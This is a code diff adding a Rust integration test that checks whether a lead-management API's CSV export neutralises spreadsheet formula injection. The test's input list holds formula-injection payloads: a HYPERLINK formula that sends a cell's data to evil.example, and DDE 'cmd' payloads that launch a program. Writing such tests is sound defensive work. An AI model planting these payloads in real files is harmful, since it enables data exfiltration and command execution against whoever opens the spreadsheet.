@@ -206,3 +206,38 @@ async fn exports_contain_only_what_the_caller_may_see() {
     )
     .await;
 }
+
+#[tokio::test]
+async fn exported_cells_never_run_as_spreadsheet_formulas() {
+    let app = TestApp::spawn().await;
+    let admin = app.signup("Acme", "ana@acme.test").await;
+    let site = app.create_site(&admin, "Loja").await;
+    let names = [
+        r#"=HYPERLINK("http://evil.example/?d="&C2,"Click")"#,
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    for (i, name) in names.iter().enumerate() {
+        let res = app
+            .request(reqwest::Method::POST, "/api/v1/leads", None)
+            .header("x-site-key", site.public_key.clone())
+            .json(&json!({"name": name, "email": format!("f{i}@x.test"), "phone": format!("+55119876500{i:02}"), "source": "=cmd"}))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(res.status(), StatusCode::CREATED);
+    }
+    let body = app.get("/api/v1/contacts/export.csv?sort=oldest", &admin.token).await.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), names.len());
+    for (row, name) in rows.iter().zip(names) {
+        // Leading tab/CR are trimmed on the way in; the unit test covers them in cells.
+        assert_eq!(&row[1], format!("'{}", name.trim()), "the name is text");
+        assert_eq!(&row[8], "'=cmd", "the source is text");
+        assert!(row[3].starts_with("+55"), "a phone number stays a number: {}", &row[3]);
+    }
+}
